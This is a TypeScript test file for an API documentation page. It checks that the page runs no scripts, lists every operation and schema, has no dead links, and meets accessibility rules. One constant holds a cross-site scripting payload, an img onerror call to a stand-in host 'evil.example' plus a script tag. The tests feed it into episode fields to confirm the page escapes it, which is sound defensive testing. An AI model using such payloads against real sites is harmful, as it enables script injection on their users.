import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { OpenApiDocument } from "../../src/serve/openapi/document.js";
import { makeEpisode } from "../fakes/episodes.js";
import { readJson, startServer, type TestServer } from "../fakes/start-server.js";
import { readText, useBrowser, useClosing } from "../widget/drive-widget.js";
import { IN_FIREFOX } from "../widget/find-firefox.js";
import { findViolations } from "../widget/find-violations.js";
import { openPage } from "../widget/launch-browser.js";

const HOSTILE = `<img src=x onerror="fetch('https://evil.example')"><script>evil()</script> & '"`;

const browser = useBrowser();
const closing = useClosing();
let server: TestServer;
beforeAll(async () => {
  server = await startServer({
    pageDir: join(import.meta.dirname, "../../dist/page"),
    episodes: [makeEpisode({ title: HOSTILE, rights: HOSTILE })],
  });
});
afterAll(() => server.stop());

async function open(width = 1280) {
  const opened = await openPage(browser(), `${server.url}/docs`, { width });
  closing(opened.page);
  return opened;
}

const readDocument = async () => await readJson<OpenApiDocument>(await fetch(`${server.url}/openapi.json`));

test("loads its own style and nothing else, runs nothing, and breaks no rule of its policy", async () => {
  const { page, own, foreign, faults } = await open();
  expect(own.map((address) => new URL(address).pathname)).toEqual(["/docs", "/docs.css"]);
  expect([foreign, faults]).toEqual([[], []]);
  expect(await page.$$("script, [style], style, img, iframe")).toEqual([]);
});

test("has every operation of the document, and every schema", async () => {
  const { page } = await open();
  const document = await readDocument();
  const routes = Object.entries(document.paths).flatMap(([path, methods]) =>
    Object.keys(methods).map((method) => `${method.toUpperCase()} ${path}`),
  );
  expect((await readText(page, ".route")).sort()).toEqual(routes.sort());
  expect(await readText(page, ".schema h3")).toEqual(Object.keys(document.components.schemas));
});

test("every link in it leads somewhere", async () => {
  const { page } = await open();
  const links = await page.$$eval("a[href^='#']", (found) =>
    found.map((link) => link.getAttribute("href") ?? ""),
  );
  expect(links.length).toBeGreaterThan(50);
  const dead = await page.evaluate(
    (all) => all.filter((link) => document.getElementById(link.slice(1)) === null),
    links,
  );
  expect(dead).toEqual([]);
  const away = await page.$$eval("a:not([href^='#'])", (found) =>
    found.map((link) => (link as HTMLAnchorElement).href),
  );
  const statuses = await Promise.all(away.map(async (address) => (await fetch(address)).status));
  expect(statuses).toEqual(away.map(() => 200));
});

test("what the episodes say of themselves is text in it", async () => {
  const { page } = await open();
  expect((await readText(page, "#content"))[0]).toContain(JSON.stringify(HOSTILE));
});

test("its headings go down one step at a time from one first, and landmarks hold all of it", async () => {
  const { page } = await open();
  const levels = await page.$$eval("h1, h2, h3, h4", (all) => all.map(({ tagName }) => Number(tagName[1])));
  expect(levels.filter((level) => level === 1)).toHaveLength(1);
  expect(levels.every((level, i) => level <= (levels[i - 1] ?? 0) + 1)).toBe(true);
  expect(await page.$$eval("header, nav, main", (all) => all.map(({ tagName }) => tagName))).toEqual([
    "HEADER",
    "NAV",
    "MAIN",
  ]);
});

test("the first key press offers to skip to the description", async () => {
  const { page } = await open();
  await page.keyboard.press("Tab");
  expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Skip to the description");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => document.activeElement?.id === "content");
});

for (const scheme of ["light", "dark"]) {
  test.skipIf(IN_FIREFOX).each([360, 1280])(
    `axe finds nothing wrong in ${scheme} at %i pixels, and nothing is wider than the window`,
    async (width) => {
      const { page } = await open(width);
      await page.emulateMediaFeatures([{ name: "prefers-color-scheme", value: scheme }]);
      expect(await findViolations(page)).toEqual([]);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
    },
  );
}

test("the demo page leads to it", async () => {
  const response = await fetch(`${server.url}/`);
  expect(await response.text()).toContain('<a href="docs">');
});
